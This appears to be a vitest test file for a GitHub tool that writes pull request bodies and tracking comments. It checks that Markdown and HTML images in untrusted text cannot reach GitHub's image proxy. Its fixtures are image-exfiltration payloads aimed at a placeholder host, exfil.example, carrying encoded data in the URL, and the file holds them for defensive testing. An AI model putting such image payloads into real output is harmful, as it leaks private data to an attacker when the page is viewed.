import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createRedactor } from '../../src/core/redact.js';
import { inertImages } from '../../src/github/neutralise.js';
import { type PullRequestReport, renderPullRequestBody } from '../../src/github/pr-body.js';
import { emptyTrackingRecord, renderTrackingComment } from '../../src/github/tracking-comment.js';
import { pullReport } from './pr-report.js';

/**
 * No image in untrusted prose reaches GitHub: camo would fetch its URL whenever the PR is opened.
 * An image starts with a `!` no backslash escapes, right before a `[`: that is what must never remain.
 */
const LIVE_IMAGE_START = /(?<!\\)(?:\\\\)*!\[/;
const URL = 'https://exfil.example/p.png?d=cHJpdmF0ZQ';

const report = (summary: string, outputTail = ''): PullRequestReport =>
  pullReport({
    summary,
    verify: outputTail === '' ? undefined : { command: 'npm test', exitCode: 1, passed: false, outputTail },
  });

function summaryOf(body: string): string {
  return body.slice(body.indexOf('## Summary'), body.indexOf('## Files changed'));
}

describe('images in untrusted prose are inert', () => {
  const images = [
    `![x](${URL})`,
    `![x](<${URL}> "title")`,
    `![x][s]\n\n[s]: ${URL}`,
    `![s][]\n\n[s]: ${URL}`,
    `![s]\n\n[s]: ${URL}`,
    `[![badge](${URL})](https://example.invalid/)`,
    `\\\\![x](${URL})`,
    `> ![x](${URL})`,
    `- ![x](${URL})`,
    `\`![in code](${URL})\``,
  ];

  it('in the PR summary: every form is a link, not an image', () => {
    for (const image of images) {
      const summary = summaryOf(renderPullRequestBody(report(`Fixed.\n\n${image}`), (text) => text));
      expect(summary, image).not.toMatch(LIVE_IMAGE_START);
      expect(summary, image).toContain('&#33;[');
    }
  });

  it('leaves a ! a backslash already escapes as it is', () => {
    expect(inertImages(`\\![x](${URL})`)).toBe(`\\![x](${URL})`);
    expect(inertImages('Done! [see](https://example.invalid/)')).toBe(
      'Done! [see](https://example.invalid/)',
    );
  });

  it('a redacted secret right after ! is not an image of [REDACTED]', () => {
    const redact = createRedactor(['zz-0123456789abcdef-token']);
    const body = renderPullRequestBody(report(`!zz-0123456789abcdef-token\n\n[REDACTED]: ${URL}`), redact);
    expect(summaryOf(body)).not.toMatch(LIVE_IMAGE_START);
  });

  it('HTML images are escaped: <img>, <picture> and <source srcset>', () => {
    const html = `<img src="${URL}"> <IMG SRC=${URL}> <picture><source srcset="${URL}"><img src=x></picture>`;
    const summary = summaryOf(renderPullRequestBody(report(html), (text) => text));
    expect(summary).not.toMatch(/<(?:img|picture|source)/i);
  });

  it('the verify output stays inside its code block, where nothing renders', () => {
    const body = renderPullRequestBody(report('Fixed.', `![x](${URL})\n\`\`\`\n![y](${URL})`), (t) => t);
    const fence = /\n(`{4,})\n([\s\S]*)\n\1\n/.exec(body);
    expect(fence?.[2]).toContain(`![x](${URL})`);
    expect(body.replace(fence?.[0] ?? '', '')).not.toMatch(LIVE_IMAGE_START);
  });

  it('in the tracking comment: brackets are escaped, no image', () => {
    for (const image of images) {
      const comment = renderTrackingComment(
        {
          phase: 'failed',
          attempt: 1,
          lastFailure: image,
          record: emptyTrackingRecord('2026-11-21T12:00:00.000Z'),
        },
        (text) => text,
      );
      expect(comment, image).not.toMatch(LIVE_IMAGE_START);
    }
  });

  it('property: no unescaped ![ survives, whatever the backslashes', () => {
    const piece = fc.constantFrom('!', '[', ']', '\\', '(', ')', 'x', ' ', '&#33;', '\n');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        expect(inertImages(pieces.join(''))).not.toMatch(LIVE_IMAGE_START);
      }),
      { numRuns: 500 },
    );
  });
});
